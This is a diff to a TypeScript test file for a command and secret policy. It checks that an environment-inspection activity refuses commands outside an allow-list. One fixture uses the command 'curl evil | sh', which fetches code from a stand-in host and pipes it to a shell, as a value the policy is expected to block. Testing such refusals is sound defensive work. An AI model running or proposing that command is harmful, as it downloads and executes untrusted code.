@@ -31,7 +31,12 @@ describe('the policy of the moment', () => {
     const ask = (input: unknown) => refusal('inspectEnvironment', input, policyOf());
     const commands = { kind: 'command', restore: null, retire: null, on: 'worker' } as const;
     const platform = { ...commands, command: 'id', inspect: 'curl evil | sh' };
-    expect(await ask(look({ platform }))).toMatch(/command id is not allowed/);
+    const listing = policyOf('commands: [id]');
+    expect(await refusal('inspectEnvironment', look({ platform }), listing)).toMatch(
+      /command curl evil \| sh is not allowed/,
+    );
+    // without a list the look itself runs none: test/activities/inspect.test.ts
+    expect(await begins('inspectEnvironment', look({ platform }), policyOf())).toBe(true);
     expect(await ask(look({ secrets: { A: 'env:PROD_A' } }))).toMatch(/secret env:PROD_A is not allowed/);
     expect(await ask(look({}, 'logs'))).toMatch(/the plan has no seal/);
     expect(await ask({ ...doctor, plan: { ...release.environment, platform } })).toMatch(/changed after/);
